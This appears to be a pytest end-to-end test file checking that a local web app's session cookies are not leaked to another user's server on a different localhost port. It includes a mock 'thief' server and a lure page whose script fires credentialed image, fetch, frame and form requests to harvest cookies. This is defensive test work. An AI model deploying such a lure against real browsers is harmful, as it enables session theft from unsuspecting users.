"""Cookies do not know ports: a server of another user on this machine must not be sent ours.

Such a server answers on another port of 127.0.0.1 and of localhost. Its page is opened in the browser that holds our
session, and tries every way to make that browser ask: to go there, an image, a fetch, a frame, a posted form.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from tests.e2e.conftest import Visit

Enter = Callable[..., Visit]
_LURE = """<!doctype html><title>harmless</title><iframe name="frame"></iframe>
<form method="post" action="http://{other}/posted" target="frame"></form>
<script>
  for (const place of ["{here}", "{other}"]) {{
    new Image().src = `http://${{place}}/image`
    fetch(`http://${{place}}/page/1.png`, {{mode: "no-cors", credentials: "include"}})
    document.body.append(Object.assign(document.createElement("iframe"), {{src: `http://${{place}}/frame`}}))
  }}
  document.forms[0].submit()
</script>"""
_MOVED_ON = """<!doctype html><script>location = "http://{other}/came"</script>"""


@dataclass(frozen=True, slots=True)
class Heard:
    """One request that reached the other user's server."""

    host: str
    path: str
    cookies: str


@dataclass(frozen=True, slots=True, kw_only=True)
class Thief:
    """A server of somebody else on this machine, and all it was sent."""

    port: int
    heard: list[Heard] = field(default_factory=list)


@pytest.fixture
def thief() -> Iterator[Thief]:
    heard: list[Heard] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            host = self.headers.get("Host", "")
            heard.append(Heard(host, self.path, self.headers.get("Cookie", "")))
            name, _colon, port = host.partition(":")
            other = f"{'127.0.0.1' if name == 'localhost' else 'localhost'}:{port}"
            page = {"/": _MOVED_ON, "/came": _LURE}.get(self.path, "<!doctype html>")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Set-Cookie", "known=1; Path=/")
            self.end_headers()
            self.wfile.write(page.format(here=host, other=other).encode())

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_arguments: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Thief(port=server.server_port, heard=heard)
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_server_on_another_port_of_this_machine_is_sent_no_cookie_of_ours(
    visit: Enter, thief: Thief, name: str
) -> None:
    arrived = visit()
    ours = [cookie for cookie in arrived.page.context.cookies() if cookie.get("httpOnly")]
    assert ours
    lured = arrived.page.context.new_page()
    lured.goto(f"http://{name}:{thief.port}/")
    lured.wait_for_url("**/came")
    lured.wait_for_load_state("networkidle")
    lured.goto(f"http://{name}:{thief.port}/again")
    asked = {(each.host.partition(":")[0], each.path) for each in thief.heard}
    for path in ("/image", "/page/1.png", "/frame"):
        assert asked >= {("127.0.0.1", path), ("localhost", path)}
    assert (name, "/posted") in asked
    # The browser does send that server the cookie it set itself, so none of ours missing is no accident.
    assert any("known=1" in each.cookies for each in thief.heard)
    for cookie in ours:
        stolen = [each for each in thief.heard if cookie["name"] in each.cookies or cookie["value"] in each.cookies]
        assert stolen == []


def test_a_server_that_knew_our_path_gets_nothing_on_another_port(visit: Enter, thief: Thief) -> None:
    arrived = visit()
    path = urlsplit(arrived.page.url).path
    [session] = [cookie for cookie in arrived.page.context.cookies() if cookie.get("httpOnly")]
    lured = arrived.page.context.new_page()
    for name in ("127.0.0.1", "localhost"):
        lured.goto(f"http://{name}:{thief.port}{path}")
    assert len(thief.heard) >= 2
    assert not [each for each in thief.heard if session["value"] in each.cookies]
